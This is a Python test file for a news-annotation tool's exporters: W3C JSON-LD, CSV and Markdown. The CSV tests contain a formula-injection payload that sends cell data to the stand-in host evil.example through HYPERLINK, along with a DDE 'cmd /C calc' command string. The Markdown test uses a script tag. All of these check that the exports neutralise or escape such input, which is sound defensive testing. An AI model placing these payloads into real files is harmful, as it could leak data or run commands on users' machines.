"""Exports other tools read: W3C Web Annotation JSON-LD, CSV, a Markdown brief (issue 5)."""

from __future__ import annotations

import csv as csv_module
import io
import json
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner

from conftest import SAMPLES, shared_folder
from nkreader.cli import main
from nkreader.domain import AnchorState, Kind, Link, LinkType, Status, new_uuid, utcnow
from nkreader.export import csv, markdown, w3c
from nkreader.services.exporting import render, snapshot
from nkreader.services.importing import import_paths
from nkreader.services.library import Library
from nkreader.store.articles import add_article
from nkreader.store.links import add_link

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def sample_library(library: Library) -> Library:
    """The sample articles, each with marks of every kind, an orphan, a fuzzy one and links."""
    import_paths(library, [SAMPLES])
    library.annotator = "analyst@example.org"
    marked = []
    for summary in library.summaries():
        body = library.article(summary.id).body
        first_stop = body.index(". ") + 1 if ". " in body else min(40, len(body))
        claim = library.annotate(
            summary.id, Kind.CLAIM, 0, first_stop, note="Check against the\nmarket survey"
        )
        library.edit(claim, status=Status.DISPUTED, tags=["prices", "hyesan"])
        paragraph = body.find("\n\n") + 2
        end = body.find(" ", paragraph + 20)
        quote = library.annotate(summary.id, Kind.QUOTE, paragraph, end, speaker="a source in Ryanggang")
        policy = library.annotate(summary.id, Kind.POLICY, max(0, len(body) - 30), len(body))
        marked.append((claim, quote, policy))
    # an orphan (its passage gone from the text) and a fuzzy one, as an update leaves them
    orphan = marked[0][2]
    library.put(replace(orphan, anchor_state=AnchorState.ORPHANED, exact="words no longer there"))
    library.put(replace(marked[1][2], anchor_state=AnchorState.FUZZY))
    with library.database.writing() as session:
        add_link(
            session,
            Link(None, new_uuid(), marked[0][0].uuid, marked[1][0].uuid, LinkType.CORROBORATES, utcnow()),
        )
        add_link(
            session, Link(None, new_uuid(), marked[2][1].uuid, marked[0][1].uuid, LinkType.CITES, utcnow())
        )
    return library


def validate_w3c(path: Path) -> subprocess.CompletedProcess[str]:
    tools = shared_folder("tools")
    schemas = shared_folder("conformance", "w3c-annotation")
    return subprocess.run(
        [sys.executable, str(tools / "validate_w3c.py"), "--schemas", str(schemas), str(path)],
        capture_output=True,
        text=True,
        check=False,
    )


def test_w3c_collection_passes_every_must_schema(sample_library: Library, tmp_path: Path) -> None:
    text = render(sample_library, "w3c").text
    target = tmp_path / "annotations.jsonld"
    target.write_text(text, encoding="utf-8")
    result = validate_w3c(target)
    assert result.returncode == 0, result.stdout[-3000:]
    summary = [line for line in result.stdout.splitlines() if "=>" in line]
    assert sum("annotation: PASS" in line for line in summary) == 11 * 3 + 2
    assert any("collection: PASS" in line for line in summary)
    assert any("page: PASS" in line for line in summary)


def test_w3c_items_carry_kind_note_tags_speaker_and_both_selectors(sample_library: Library) -> None:
    document = json.loads(render(sample_library, "w3c").text)
    assert document["type"] == "AnnotationCollection"
    assert document["@context"] == w3c.CONTEXT
    items = document["first"]["items"]
    assert document["total"] == len(items) == 11 * 3 + 2
    annotations = [i for i in items if i["motivation"] != "linking"]
    links = [i for i in items if i["motivation"] == "linking"]
    taken = snapshot(sample_library)
    by_uuid = {a.uuid: (a, item.article) for item in taken.items for a in item.annotations}
    for item in annotations:
        assert item["id"].startswith("urn:uuid:")
        annotation, article = by_uuid[item["id"][9:]]
        bodies = item["body"]
        assert bodies[0] == {"type": "TextualBody", "purpose": "tagging", "value": annotation.kind.value}
        values = [(b["purpose"], b["value"]) for b in bodies]
        if annotation.note:
            assert ("commenting", annotation.note) in values
        for tag in annotation.tags:
            assert ("tagging", tag) in values
        if annotation.speaker:
            assert ("tagging", "speaker:" + annotation.speaker) in values
        if annotation.kind is Kind.CLAIM:
            assert ("tagging", "status:disputed") in values
        target = item["target"]
        assert target["source"] == (article.url or f"urn:uuid:{article.uuid}")
        quote = target["selector"][0]
        assert quote == {
            "type": "TextQuoteSelector",
            "exact": annotation.exact,
            "prefix": annotation.prefix,
            "suffix": annotation.suffix,
        }
        if annotation.anchor_state is AnchorState.ORPHANED:
            assert len(target["selector"]) == 1
        else:
            position = target["selector"][1]
            assert position == {
                "type": "TextPositionSelector",
                "start": annotation.start,
                "end": annotation.end,
            }
            assert article.body[annotation.start : annotation.end] == quote["exact"]
        assert item["creator"] == {"type": "Person", "name": "analyst@example.org"}
        assert item["created"].endswith("Z") and item["modified"].endswith("Z")
    assert sorted(link["body"][1]["value"] for link in links) == ["cites", "corroborates"]
    for link in links:
        assert link["target"][9:] in by_uuid and link["body"][0][9:] in by_uuid


def test_w3c_links_only_when_both_ends_are_exported(sample_library: Library) -> None:
    document = json.loads(render(sample_library, "w3c", kinds=[Kind.CLAIM]).text)
    items = document["first"]["items"]
    assert [i["body"][1]["value"] for i in items if i["motivation"] == "linking"] == ["corroborates"]


def test_w3c_source_is_a_valid_uri() -> None:
    from nkreader.domain import Article

    article = Article(None, new_uuid(), "t", "b", "h", url="https://example.org/기사 1")
    assert w3c.article_source(article) == "https://example.org/%EA%B8%B0%EC%82%AC%201"
    assert w3c.article_source(replace(article, url="not a url")) == f"urn:uuid:{article.uuid}"


def test_empty_library_collection_is_valid(library: Library, tmp_path: Path) -> None:
    target = tmp_path / "empty.jsonld"
    target.write_text(render(library, "w3c").text, encoding="utf-8")
    assert validate_w3c(target).returncode == 0


def parse_csv(text: str) -> list[dict[str, str]]:
    assert text.startswith(csv.BOM)
    return list(csv_module.DictReader(io.StringIO(text[1:], newline="")))


def test_csv_one_row_per_annotation_with_documented_columns(sample_library: Library) -> None:
    text = render(sample_library, "csv").text
    rows = parse_csv(text)
    assert text[1:].splitlines()[0] == ",".join(csv.COLUMNS)
    assert "\r\n" in text
    taken = snapshot(sample_library)
    annotations = [(a, item.article) for item in taken.items for a in item.annotations]
    assert len(rows) == len(annotations) == 33
    for row, (annotation, article) in zip(rows, annotations, strict=True):
        assert row["annotation_uuid"] == annotation.uuid
        assert row["article_uuid"] == article.uuid
        assert row["kind"] == annotation.kind.value
        assert row["exact"] in (annotation.exact, "'" + annotation.exact)
        assert (int(row["start"]), int(row["end"])) == (annotation.start, annotation.end)
        assert row["tags"] == "; ".join(annotation.tags)
        assert row["anchor_state"] == annotation.anchor_state.value
    assert rows[0]["note"] == "Check against the\nmarket survey"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralizes_formula_cells(library: Library, start: str) -> None:
    from nkreader.domain import ArticleDraft
    from nkreader.services.library import content_hash

    body = f"{start}1+2 said the source. {HOSTILE} was written on the wall."
    draft = ArticleDraft(title=start + "cmd|' /C calc'!A0", body=body, source="@source", url="-1")
    with library.database.writing() as session:
        article_id = add_article(session, draft, content_hash(body)).id
    assert article_id is not None
    annotation = library.annotate(article_id, Kind.QUOTE, 0, body.index(" said"), speaker="=SUM(A1:A9)")
    library.edit(annotation, note="+ a note", tags=["-tag", "fine"])
    hostile_start = body.index(HOSTILE)
    library.annotate(article_id, Kind.CLAIM, hostile_start, hostile_start + len(HOSTILE))
    rows = parse_csv(render(library, "csv").text)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert rows[0]["article_title"] == "'" + start + "cmd|' /C calc'!A0"
    assert rows[0]["exact"] == "'" + start + "1+2"
    assert rows[0]["speaker"] == "'=SUM(A1:A9)"
    assert rows[0]["note"] == "'+ a note" and rows[0]["tags"] == "'-tag; fine"
    assert rows[0]["article_source"] == "'@source" and rows[0]["article_url"] == "'-1"
    assert rows[1]["exact"] == "'" + HOSTILE


def test_markdown_brief_shape(sample_library: Library) -> None:
    text = render(sample_library, "markdown").text
    taken = snapshot(sample_library)
    briefs = text.split("\n---\n")
    assert len(briefs) == len(taken.items) == 11
    for brief, item in zip(briefs, taken.items, strict=True):
        article = item.article
        lines = brief.strip().splitlines()
        heading = next(line for line in lines if line.startswith("# "))
        assert heading == "# " + markdown.escape(article.title)
        if article.source:
            assert f"- Source: {markdown.escape(article.source)}" in lines
        assert f"- Date: {article.published.isoformat() if article.published else 'no date'}" in lines
        if article.url:
            assert any(line.startswith("- Link: <http") for line in lines)
        sections = [line for line in lines if line.startswith("## ")]
        assert sections == ["## Claims", "## Quotes", "## Policy statements", "## Sources"]
        claims = brief[brief.index("## Claims") : brief.index("## Quotes")]
        assert "\n> " in claims
        assert "### Disputed (1)" in claims and "- Status" not in claims  # the heading says it
        assert "- Tags: prices, hyesan" in claims
        assert "- Note: Check against the  \n  market survey" in claims
        quotes = brief[brief.index("## Quotes") : brief.index("## Policy statements")]
        assert "- Speaker: a source in Ryanggang" in quotes
        assert "- Status" not in quotes
    assert text.count("- Anchor: orphaned") == 1 and text.count("re-attached approximately") == 1


def test_markdown_escapes_article_text() -> None:
    from nkreader.domain import Annotation, Article
    from nkreader.export.native import ArticleExport

    body = "# Not a heading <script>alert(1)</script> [link](http://x) *bold*\n\n1. not a list"
    article = Article(1, new_uuid(), "<b>Title</b> #1", body, "h", source="KCNA")
    annotation = Annotation(1, new_uuid(), 1, Kind.POLICY, 0, len(body), body, speaker="Kim *Jong* Un")
    text = markdown.render([ArticleExport(article, [annotation])], exported_at=utcnow())
    assert "# \\<b\\>Title\\</b\\> \\#1" in text
    assert "> \\# Not a heading \\<script\\>alert(1)\\</script\\> \\[link\\](http://x) \\*bold\\*" in text
    assert ">\n> 1\\. not a list" in text
    assert "- Speaker: Kim \\*Jong\\* Un" in text
    assert "- Status" not in text


def run(db: Path, *args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, ["--db", str(db), *args], catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def test_cli_export_every_format(sample_library: Library, db_path: Path, tmp_path: Path) -> None:
    for fmt, name in [("json", "a.json"), ("w3c", "a.jsonld"), ("csv", "a.csv"), ("markdown", "a.md")]:
        target = tmp_path / "out" / name
        target.parent.mkdir(exist_ok=True)
        code, _, err = run(db_path, "export", "--format", fmt, "-o", str(target), "--kind", "claim")
        assert code == 0, err
        assert "exported 11 articles, 11 annotations" in err
        assert not [p for p in target.parent.iterdir() if p.name.startswith(".")]  # no temporary left
    assert json.loads((tmp_path / "out" / "a.json").read_text())["format"] == "nkreader-annotations"
    assert json.loads((tmp_path / "out" / "a.jsonld").read_text())["total"] == 12  # 11 claims, 1 link
    assert len(parse_csv((tmp_path / "out" / "a.csv").read_text(encoding="utf-8"))) == 11
    assert "## Quotes" not in (tmp_path / "out" / "a.md").read_text()
    code, out, _ = run(db_path, "export", "-f", "csv", "--article", "1")
    assert code == 0 and len(parse_csv(out)) == 3
    code, _, err = run(db_path, "export", "-f", "w3c", "--schema")
    assert code == 2 and "json format only" in err
    code, _, err = run(db_path, "export", "-f", "w3c", "--article", "999")
    assert code == 2 and "no article with id 999" in err
